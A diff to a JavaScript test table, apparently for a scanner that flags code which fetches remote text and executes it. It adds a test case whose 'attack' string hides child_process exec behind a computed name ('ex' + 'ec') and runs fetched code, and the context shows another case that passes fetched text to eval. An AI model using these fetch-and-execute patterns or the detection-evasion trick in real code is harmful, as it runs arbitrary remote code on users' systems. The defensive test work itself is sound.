@@ -17,6 +17,12 @@ describe.each([
     honest: `fetch('${url}').then((a) => a.text()).then((t) => { (0, console.log)(t) })`,
   },
   {
+    way: 'a program started under a name that is put together',
+    path: 'a.js',
+    attack: `const { ['ex' + 'ec']: go } = require('child_process')\nfetch('${url}').then((a) => a.text()).then((t) => go(t))`,
+    honest: `const { ['ex' + 'tname']: go } = require('path')\nfetch('${url}').then((a) => a.text()).then((t) => go(t))`,
+  },
+  {
     way: 'eval given to somebody else',
     path: 'a.js',
     attack: `fetch('${url}').then((a) => a.text()).then(eval)`,
